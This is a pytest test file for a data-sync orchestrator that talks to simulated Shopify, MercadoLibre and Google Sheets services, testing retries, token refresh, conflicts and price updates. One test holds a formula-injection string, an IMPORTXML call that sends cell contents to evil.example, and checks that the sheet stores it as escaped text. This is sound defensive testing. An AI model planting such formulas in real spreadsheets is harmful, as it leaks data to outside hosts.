"""Shopify, MercadoLibre and Google Sheets are spoken to by their contracts, faults included."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from shops import GoogleSheets, MercadoLibre, Shopify, service_account

from orchestrator.errors import RetryLater, TaskError

HERE = {"http_allowed_hosts": "127.0.0.1", "http_timeout_s": 3.0}


@pytest.fixture
def shop() -> Iterator[Shopify]:
    shop = Shopify()
    shop.start()
    yield shop
    shop.stop()


@pytest.fixture
def seller() -> Iterator[MercadoLibre]:
    seller = MercadoLibre()
    seller.start()
    yield seller
    seller.stop()


@pytest.fixture(scope="module")
def key() -> dict[str, Any]:
    return service_account()


@pytest.fixture
def google() -> Iterator[GoogleSheets]:
    google = GoogleSheets()
    google.start()
    yield google
    google.stop()


def counts(report: Any) -> dict[str, int]:
    return {name: count for name, count in report["counts"].items() if count}


def later(desk: Any, task: Any) -> RetryLater:
    with pytest.raises(RetryLater) as put_off:
        desk.desk.run(task)
    return put_off.value


# --- Shopify ------------------------------------------------------------------------------

SHOPIFY = """
syncs:
  variants:
    source: {{type: shopify, url: "{url}", secret: shop}}
    target: {{type: records, dataset: stock}}
    key: sku
    columns:
      sku: {{}}
      price: {{type: decimal}}
      title: {{from: product.title}}
  prices:
    source: {{type: records, dataset: stock}}
    target: {{type: shopify, url: "{url}", secret: shop}}
    key: sku
    columns:
      sku: {{}}
      price: {{type: decimal}}
    conflicts: ours
"""


@pytest.fixture
def with_shop(office_of: Callable[..., Any], shop: Shopify) -> Any:
    secrets = json.dumps({"shop": Shopify.TOKEN})
    return office_of(SHOPIFY.format(url=shop.url), sync_secrets=secrets, **HERE)


def test_a_shop_s_variants_come_in_and_then_what_changed(with_shop: Any, shop: Shopify) -> None:
    for n in range(300):
        shop.variant(n, "10.00")
    assert counts(with_shop.run("variants")) == {"rows": 300, "inserted": 300}
    assert with_shop.records()["SKU-12"] == {"sku": "SKU-12", "price": "10", "title": "Panel 1"}
    shop.variants[7] |= {"price": "12.50", "updatedAt": "2999-01-01T00:00:00Z"}
    assert counts(with_shop.run("variants")) == {"rows": 1, "updated": 1}


def test_points_that_are_spent_put_a_run_off_until_there_are_enough(
    with_shop: Any, shop: Shopify
) -> None:
    for n in range(300):
        shop.variant(n, "10.00")
    shop.available = 50
    task = with_shop.desk.accept("run_sync", {"sync": "variants"})
    # 100 points are asked, 50 are there, 100 come back in a second.
    assert later(with_shop, task).after_s == 0.5
    assert counts(with_shop.desk.run(task)) == {"rows": 300, "inserted": 300}


def test_prices_go_out_to_the_variants_that_there_are(with_shop: Any, shop: Shopify) -> None:
    for n in range(12):
        shop.variant(n, "10.00")
    shop.variant(90, "1.00", sku="twice")
    shop.variant(91, "1.00", sku="twice")
    rows = {f"SKU-{n}": {"sku": f"SKU-{n}", "price": "11.5"} for n in range(12)}
    rows |= {name: {"sku": name, "price": "1"} for name in ("nowhere",)}
    rows["twice"] = {"sku": "twice", "price": "2"}
    with_shop.syncs.records.put("stock", rows)
    report = with_shop.run("prices")
    assert counts(report) == {"rows": 14, "updated": 12, "refused": 2}
    assert {(each["value"], each["reason"]) for each in report["wrong"]} == {
        ("nowhere", "is in no variant of the shop"),
        ("twice", "is of several variants"),
    }
    assert {each["price"] for each in shop.variants[:12]} == {"11.5"}
    # One request for each product.
    assert len(shop.taken) == 2
    assert counts(with_shop.run("prices"))["unchanged"] == 12
    assert len(shop.taken) == 2


def test_a_variant_that_shopify_refuses_holds_up_no_other(with_shop: Any, shop: Shopify) -> None:
    for n in range(3):
        shop.variant(n, "10.00")
    prices = {"SKU-0": "11", "SKU-1": "-1", "SKU-2": "12"}
    with_shop.syncs.records.put(
        "stock", {sku: {"sku": sku, "price": price} for sku, price in prices.items()}
    )
    report = with_shop.run("prices")
    assert counts(report) == {"rows": 3, "updated": 2, "refused": 1}
    assert report["wrong"][0]["column"] == "price"
    assert [each["price"] for each in shop.variants] == ["11", "10.00", "12"]


def test_a_write_whose_answer_is_lost_is_made_good(with_shop: Any, shop: Shopify) -> None:
    shop.variant(1, "10.00")
    with_shop.syncs.records.put("stock", {"SKU-1": {"sku": "SKU-1", "price": "11"}})
    task = with_shop.desk.accept("run_sync", {"sync": "prices"})
    # Looked up, looked up for the write, changed.
    shop.faults = [None, None, "cut"]
    later(with_shop, task)
    assert counts(with_shop.desk.run(task)) == {"rows": 1, "updated": 1}
    assert shop.variants[0]["price"] == "11"


# --- MercadoLibre -------------------------------------------------------------------------

SELLER = """
syncs:
  items:
    source: &account {{type: mercadolibre, url: "{url}", seller_id: 419059118,
      client_id: "123456", secret: ml{more}}}
    target: {{type: records, dataset: items}}
    key: id
    columns:
      id: {{}}
      price: {{type: decimal}}
      title: {{}}
"""
PRICES = """
  prices:
    source: {{type: records, dataset: items}}
    target: {{type: mercadolibre, url: "{url}", seller_id: 419059118, client_id: "123456",
      secret: ml{more}}}
    key: id
    columns:
      id: {{}}
      price: {{type: decimal}}
    conflicts: ours
"""
SECRETS = json.dumps({"ml": MercadoLibre.SECRET, "first": "TG-first"})


@pytest.fixture
def with_seller(office_of: Callable[..., Any], seller: MercadoLibre) -> Any:
    for n in range(250):
        seller.items[f"MLU{n:03}"] = {
            "id": f"MLU{n:03}",
            "title": f"Panel {n}",
            "price": 1500,
            "status": "active",
            "last_updated": "2026-11-01T10:00:00.000Z",
        }
    text = (
        (SELLER + PRICES)
        .replace("&account ", "")
        .format(url=seller.url, more=", refresh_secret: first")
    )
    return office_of(text, sync_secrets=SECRETS, **HERE)


def test_a_seller_s_items_come_in(with_seller: Any, seller: MercadoLibre) -> None:
    assert counts(with_seller.run("items")) == {"rows": 250, "inserted": 250}
    assert with_seller.records("items")["MLU007"] == {
        "id": "MLU007",
        "title": "Panel 7",
        "price": "1500",
    }
    assert seller.granted == 1


def test_a_token_of_the_seller_that_expires_in_the_middle_is_refreshed(
    with_seller: Any, seller: MercadoLibre
) -> None:
    seller.faults = [None, None, None, "expire"]
    assert counts(with_seller.run("items")) == {"rows": 250, "inserted": 250}
    assert seller.granted == 2


@pytest.mark.parametrize("fault", ["429", "500", "cut"])
def test_a_fault_of_mercadolibre_costs_no_item(
    with_seller: Any, seller: MercadoLibre, fault: str
) -> None:
    task = with_seller.desk.accept("run_sync", {"sync": "items"})
    seller.faults = [None] * 9 + [fault]
    later(with_seller, task)
    assert counts(with_seller.desk.run(task)) == {"rows": 250, "inserted": 250}


def test_prices_go_out_and_those_that_are_automated_are_told(
    with_seller: Any, seller: MercadoLibre
) -> None:
    rows = {f"MLU{n:03}": {"id": f"MLU{n:03}", "price": "1600.5"} for n in range(3)}
    rows["MLU999"] = {"id": "MLU999", "price": "1"}
    seller.items["MLU001"]["status"] = "closed"

    class Automated(dict[str, Any]):
        def update(self, *_: Any, **__: Any) -> None:
            """Taken with 200, and ignored."""

    seller.items["MLU002"] = Automated(seller.items["MLU002"])
    with_seller.syncs.records.put("items", rows)
    report = with_seller.run("prices")
    assert counts(report) == {"rows": 4, "updated": 1, "refused": 3}
    assert {each["value"]: each["reason"] for each in report["wrong"]} == {
        "MLU001": "was refused by MercadoLibre (validation_error)",
        "MLU002": "was taken by MercadoLibre and not changed",
        "MLU999": "was refused by MercadoLibre (not_found)",
    }
    assert seller.items["MLU000"]["price"] == 1600.5


# --- Google Sheets ------------------------------------------------------------------------

HEADER = [
    "Arg", "Estado", "Fecha", "Cliente", "Orig.", "Telefono-Contacto", "Direccion / Zona",
    "Consulta",
]  # fmt: skip
SHEET = """
syncs:
  out:
    source: {{type: records, dataset: asked}}
    target: &sheet {{type: google_sheet, url: "{url}", spreadsheet: {id}, sheet: Administrador 2026,
      key_column: Ref., secret: office, header_row: 2}}
    key: ref
    columns:
      ref: {{}}
      state: {{}}
      customer: {{}}
      phone: {{}}
      asked: {{}}
      total: {{type: decimal}}
    target_columns:
      {{ref: Ref., state: Estado, customer: Cliente, phone: Telefono-Contacto, asked: Consulta,
      total: Arg}}
    conflicts: {rule}
  back:
    source: *sheet
    target: {{type: records, dataset: back}}
    key: ref
    columns:
      ref: {{from: Ref.}}
      state: {{from: Estado}}
      total: {{from: Arg, type: decimal}}
"""


@pytest.fixture
def with_sheet(
    office_of: Callable[..., Any], google: GoogleSheets, key: dict[str, Any]
) -> Callable[..., Any]:
    google.sheets["Administrador 2026"] = [
        ["Administrador", "", "", ""],
        list(HEADER),
        ["", "Pendiente", "1/11", "Ana", "LO", "099 111", "Pocitos", "techo"],
    ]

    def opened(rule: str = "ours") -> Any:
        text = SHEET.format(url=google.url, id=google.ID, rule=rule)
        sheet = text[text.index("&sheet ") + 7 : text.index("    key: ref")]
        text = text.replace("&sheet ", "").replace("*sheet\n", sheet)
        account = key | {"token_uri": f"{google.url}/token"}
        return office_of(text, sync_secrets=json.dumps({"office": account}), **HERE)

    return opened


def asked(n: int, **more: Any) -> dict[str, Any]:
    return {
        "ref": f"R{n}",
        "state": "sent",
        "customer": "Juan",
        "phone": "+59899123456",
        "asked": "isodec 100",
        "total": "7500.5",
    } | more


def lines(google: GoogleSheets) -> list[list[Any]]:
    return google.sheets["Administrador 2026"][2:]


def test_rows_are_appended_under_the_business_s_own_columns_and_changed_in_place(
    with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet()
    desk.syncs.records.put("asked", {"R1": asked(1), "R2": asked(2)})
    assert counts(desk.run("out")) == {"rows": 2, "inserted": 2}
    assert google.sheets["Administrador 2026"][1] == [*HEADER, "Ref."]
    assert lines(google)[1:] == [
        [7500.5, "sent", "", "Juan", "", "+59899123456", "", "isodec 100", f"R{n}"] for n in (1, 2)
    ]
    # A person sorts, and writes beside it.
    google.sheets["Administrador 2026"][2:] = lines(google)[::-1]
    lines(google)[0][6] = "Centro"
    desk.syncs.records.put("asked", {"R1": {"state": "accepted"}})
    assert counts(desk.run("out")) == {"rows": 2, "updated": 1, "unchanged": 1}
    assert [line[1] for line in lines(google)] == ["sent", "accepted", "Pendiente"]
    assert len(lines(google)) == 3


def test_no_cell_becomes_a_formula(with_sheet: Any, google: GoogleSheets) -> None:
    desk = with_sheet()
    evil = '=IMPORTXML("http://evil.example/"&A1, "//a")'
    desk.syncs.records.put("asked", {"R1": asked(1, customer=evil, asked="@SUM(A1)")})
    desk.run("out")
    assert (lines(google)[1][3], lines(google)[1][7]) == ("'" + evil, "'@SUM(A1)")
    # And is the same text when it is read back.
    assert counts(desk.run("out")) == {"rows": 1, "unchanged": 1}


def test_an_append_whose_answer_is_lost_is_not_done_twice(
    with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet()
    desk.syncs.records.put("asked", {"R1": asked(1)})
    task = desk.desk.accept("run_sync", {"sync": "out"})
    # Token, what is there, what is there for the write, the key's column, the append.
    google.faults = [None, None, None, None, "cut"]
    later(desk, task)
    assert counts(desk.desk.run(task)) == {"rows": 1, "inserted": 1}
    assert [line[8:] for line in lines(google)] == [[], ["R1"]]


def test_a_key_that_stands_in_several_rows_is_left_to_a_person(
    with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet()
    desk.syncs.records.put("asked", {"R1": asked(1)})
    desk.run("out")
    lines(google)
    google.sheets["Administrador 2026"].append(list(lines(google)[1]))
    desk.syncs.records.put("asked", {"R1": {"state": "accepted"}})
    report = desk.run("out")
    assert counts(report) == {"rows": 1, "refused": 1}
    assert report["wrong"][0]["reason"] == "stands in several rows of the sheet"


def test_what_a_person_changed_in_the_sheet_is_a_conflict_only_where_we_changed_it_too(
    with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet("ask")
    desk.syncs.records.put("asked", {"R1": asked(1), "R2": asked(2)})
    desk.run("out")
    lines(google)[1][1] = "vendido"
    lines(google)[2][1] = "perdido"
    desk.syncs.records.put("asked", {"R1": {"state": "accepted"}, "R2": {"total": "8000"}})
    assert counts(desk.run("out")) == {"rows": 2, "updated": 1, "asked": 1, "conflicts": 1}
    assert [line[:2] for line in lines(google)[1:]] == [[7500.5, "vendido"], [8000, "perdido"]]
    conflict = desk.desk.engine.resources.page("sync_conflicts", {"state": "open"}, 10)[0][0]
    assert conflict["fields"] == {
        "state": {"agreed": "sent", "source": "accepted", "target": "vendido"}
    }
    desk.desk.ask("resolve_sync_conflict", {"conflict_id": conflict["id"], "winner": "source"})
    assert lines(google)[1][1] == "accepted"


def test_a_sheet_is_read_and_not_again_while_it_is_the_same(
    with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet()
    desk.syncs.records.put("asked", {f"R{n}": asked(n) for n in range(600)})
    desk.run("out")
    report = desk.run("back")
    assert counts(report) == {"rows": 601, "inserted": 600, "wrong": 1}
    # The line of the person, which has no key.
    assert report["wrong"] == [{"row": 3, "column": "Ref.", "value": "", "reason": "is missing"}]
    assert desk.records("back")["R5"] == {"ref": "R5", "state": "sent", "total": "7500.5"}
    assert counts(desk.run("back")) == {}


def test_google_s_faults_put_a_run_off_and_a_token_that_expires_is_renewed(
    with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet()
    desk.syncs.records.put("asked", {"R1": asked(1)})
    task = desk.desk.accept("run_sync", {"sync": "out"})
    google.faults, google.retry_after = ["500"], None
    later(desk, task)
    google.faults, google.retry_after = [None, "429"], "30"
    assert later(desk, task).after_s == 30
    google.faults = [None, "expire"]
    assert counts(desk.desk.run(task)) == {"rows": 1, "inserted": 1}
    assert google.granted == 2


def test_a_secret_that_is_no_key_is_refused(
    office_of: Callable[..., Any], with_sheet: Any, google: GoogleSheets
) -> None:
    desk = with_sheet()
    text = (desk.folder / "syncs.yaml").read_text()
    for secrets, code in (("{}", "secret_missing"), ('{"office": "x"}', "secret_unusable")):
        with pytest.raises(TaskError) as refused:
            office_of(text, sync_secrets=secrets, **HERE).run("out")
        assert refused.value.task_code == code
